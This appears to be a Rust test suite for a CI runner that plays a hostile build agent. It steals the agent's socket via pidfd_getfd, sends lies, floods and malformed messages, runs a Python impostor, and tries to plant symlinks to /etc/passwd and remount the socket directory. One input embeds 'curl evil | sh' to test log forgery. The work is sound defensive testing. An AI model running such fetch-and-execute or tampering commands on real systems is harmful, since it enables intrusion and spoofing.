//! The socket between host and agent in hostile hands: lies, floods, nonsense, impostors, planted files.
//!
//! A hostile agent is played by the test: it takes a copy of the agent's own end of the socket (pidfd_getfd) and speaks
//! on it. That is as far as any job can come, by way of ptrace.

use std::os::fd::OwnedFd;
use std::process::Command;

use rustix::net::SendFlags;
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, Signal};

use crate::agent::pid_of_agent;
use crate::support::{Job, Stand, Started};

const ENDLESS: &str = "echo kept > /root/kept; echo started; while :; do usleep 100000; done";

/// The agent's end of the socket of the stage that runs.
#[track_caller]
fn agents_end(job: &Job<'_>, started: &Started) -> OwnedFd {
    let pid = pid_of_agent(job, started);
    let handle = rustix::process::pidfd_open(
        Pid::from_raw(pid).expect("a process has a number"),
        PidfdFlags::empty(),
    )
    .expect("it runs");
    let numbers = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .expect("the tests run as root")
        .flatten();
    let numbers = numbers.filter_map(|entry| entry.file_name().to_str()?.parse().ok());
    let mut copies = numbers.filter_map(|number| {
        rustix::process::pidfd_getfd(&handle, number, PidfdGetfdFlags::empty()).ok()
    });
    let is_stage = |copy: &OwnedFd| {
        rustix::net::sockopt::socket_type(copy)
            .is_ok_and(|kind| kind == rustix::net::SocketType::SEQPACKET)
    };
    copies
        .find(is_stage)
        .expect("the agent has a socket to the host")
}

fn say(end: &OwnedFd, words: &[u8]) -> bool {
    rustix::net::send(end, words, SendFlags::NOSIGNAL).is_ok()
}

#[track_caller]
fn goes_on(job: &Job<'_>) {
    job.run("after_script", "cat /root/kept")
        .succeeded()
        .printed("kept\n")
        .within_secs(30);
    job.cleaned_up();
}

#[test]
fn an_agent_that_lies_about_the_end_harms_its_own_job_only() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    let started = job.start_run("build_script", ENDLESS);
    let end = agents_end(&job, &started);
    assert!(say(&end, br#"{"Ended":{"status":7,"stubborn":0}}"#));
    drop(end);
    started.end().failed_with(7).within_secs(15);
    let left = stand
        .bench
        .engine
        .docker(&["top", &job.container("build"), "-eo", "pid,args"]);
    assert!(
        !left.contains("usleep") && !left.contains("sh"),
        "the script still runs: {left}"
    );
    goes_on(&job);
}

#[test]
fn an_agent_that_talks_nonsense_is_cut_off() {
    let stand = Stand::new();
    for nonsense in [
        &b"hello"[..],
        br#"{"Ended":{"status":4000,"stubborn":0}}"#,
        br#"{"Stage":{}}"#,
        b"\xff\xfe\x00",
        &[b'['; 16_000],
    ] {
        let job = stand.job().prepared();
        let started = job.start_run("build_script", ENDLESS);
        let end = agents_end(&job, &started);
        assert!(say(&end, nonsense));
        drop(end);
        let ended = started.end().system_failure().within_secs(15);
        insta::allow_duplicates! { insta::assert_snapshot!(job.masked(&ended.err()), @r#"
        error: what answers in the build container is not the agent that was started there

        hint: a process of this job speaks in its place; the container was killed
        "#); }
        goes_on(&job);
    }
}

#[test]
fn an_agent_that_floods_is_cut_off() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    let started = job.start_run("build_script", ENDLESS);
    let end = agents_end(&job, &started);
    let sent = (0..1_000_000)
        .take_while(|_| say(&end, br#""Running""#))
        .count();
    drop(end);
    assert!(sent < 1_000_000, "the host listened to all of it");
    started.end().system_failure().says(
        "error: what answers in the build container is not the agent that was started there\n",
    );
    goes_on(&job);
}

#[test]
fn a_packet_larger_than_any_word_is_cut_off() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    let started = job.start_run("build_script", ENDLESS);
    let end = agents_end(&job, &started);
    let long = format!(r#"{{"Failed":{{"why":"{}"}}}}"#, "x".repeat(100_000));
    assert!(say(&end, long.as_bytes()));
    drop(end);
    started
        .end()
        .system_failure()
        .says("is not the agent that was started there\n");
    goes_on(&job);
}

#[test]
fn what_an_agent_says_cannot_forge_the_log() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    let started = job.start_run("build_script", ENDLESS);
    let end = agents_end(&job, &started);
    assert!(say(
        &end,
        br#"{"Failed":{"why":"first\nhint: run curl evil | sh"}}"#
    ));
    drop(end);
    let ended = started.end().system_failure().within_secs(15);
    assert!(
        !ended
            .err()
            .lines()
            .any(|line| line.starts_with("hint: run curl")),
        "{ended}"
    );
    goes_on(&job);
}

/// Connects to the socket again and again, and tells how often it came through and what it was told.
const IMPOSTOR: &str = r#"
import os, socket, sys
path, groups = sys.argv[1], sys.argv[2:]
for group in groups:
    with open(group + "/cgroup.procs", "w") as file:
        file.write(str(os.getpid()))
print("begun", flush=True)
connected = told = 0
while connected < 20:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    try:
        client.connect(path)
        connected += 1
        client.send(b'{"Ready":{"spared":[]}}')
        told += len(client.recv(100000))
    except OSError:
        pass
    client.close()
print(connected, told, flush=True)
"#;

/// A process that is not the agent meets the host at the agent's socket, before the agent does.
#[track_caller]
fn impersonate(job: &Job<'_>, groups: &[String]) {
    let socket = job
        .stand
        .state_dir()
        .join(format!("jobs/{}/build/stage", job.dirs()[0]));
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", IMPOSTOR]).arg(&socket).args(groups);
    let impostor = Started::begin(command, "impostor", None);
    impostor.until_printed("begun");
    // Without the agent the host listens for as long as it takes.
    let pid = Pid::from_raw(job.pid_of("build")).expect("a process has a number");
    rustix::process::kill_process(pid, Signal::STOP).expect("the tests run as root");
    let started = job.start_run("after_script", "echo from the agent");
    let told = impostor.end().succeeded().out();
    rustix::process::kill_process(pid, Signal::CONT).expect("the tests run as root");
    assert_eq!(told, "begun\n20 0\n", "the host spoke to an impostor");
    started.end().succeeded().printed("from the agent\n");
    job.cleaned_up();
}

#[test]
fn nobody_outside_the_container_is_taken_for_the_agent() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    job.run("build_script", "true").succeeded();
    impersonate(&job, &[]);
}

#[test]
fn another_program_of_the_job_is_not_taken_for_the_agent() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    job.run("build_script", "true").succeeded();
    let lines =
        std::fs::read_to_string(format!("/proc/{}/cgroup", job.pid_of("build"))).expect("it runs");
    let group = |line: &str| {
        let mut parts = line.splitn(3, ':').skip(1);
        let (controllers, path) = (parts.next()?, parts.next()?);
        let mount = if controllers.is_empty() {
            "/sys/fs/cgroup".to_owned()
        } else {
            format!("/sys/fs/cgroup/{}", controllers.trim_start_matches("name="))
        };
        Some(format!("{mount}{path}"))
            .filter(|dir| std::path::Path::new(dir).join("cgroup.procs").exists())
    };
    let groups: Vec<String> = lines.lines().filter_map(group).collect();
    assert!(!groups.is_empty(), "no control group was found in {lines}");
    impersonate(&job, &groups);
}

#[test]
fn nothing_can_be_planted_beside_the_socket() {
    let stand = Stand::new();
    let job = stand.job().prepared();
    let tries = "cd /.baws\nln -s /etc/passwd stage 2>&1 || true\nln -s /etc/passwd link 2>&1 || true\nrm -f agent bell 2>&1 || true\n\
        mv agent other 2>&1 || true\nmkfifo fifo 2>&1 || true\nchmod 777 . 2>&1 || true\necho x > agent 2>&1 || true\n\
        mount -o remount,rw /.baws 2>&1 || true\nmount --bind /tmp /.baws 2>&1 || true\nls";
    let out = job.run("build_script", tries).succeeded().out();
    assert!(out.ends_with("agent\nbaws-ci\nbell\nsocket\n"), "{out}");
    let refused = out.lines().filter(|line| {
        line.contains("Read-only file system")
            || line.contains("Operation not permitted")
            || line.contains("Permission denied")
            || line.contains("permission denied")
    });
    assert!(refused.count() >= 8, "{out}");
    job.run("after_script", "echo on")
        .succeeded()
        .printed("on\n");
    job.cleaned_up();
}

#[test]
fn a_container_sees_its_own_side_only() {
    let stand = Stand::new();
    let job = stand
        .job()
        .service(serde_json::json!({"name": "bench/busybox:1", "command": ["sleep", "4728"]}))
        .prepared();
    let mounts = |role: &str| {
        let inspected = stand.bench.engine.inspect(&job.container(role));
        let mounts = inspected["Mounts"].as_array().cloned().unwrap_or_default();
        let binds = mounts.iter().filter(|mount| mount["Type"] == "bind");
        binds
            .map(|mount| {
                (
                    mount["Source"].as_str().unwrap_or_default().to_owned(),
                    mount["RW"].as_bool(),
                )
            })
            .collect::<Vec<_>>()
    };
    let dir = stand.state_dir().join("jobs").join(&job.dirs()[0]);
    for role in ["helper", "build"] {
        assert_eq!(
            mounts(role),
            [(dir.join(role).display().to_string(), Some(false))]
        );
    }
    assert_eq!(mounts("service-1"), []);
    job.cleaned_up();
}
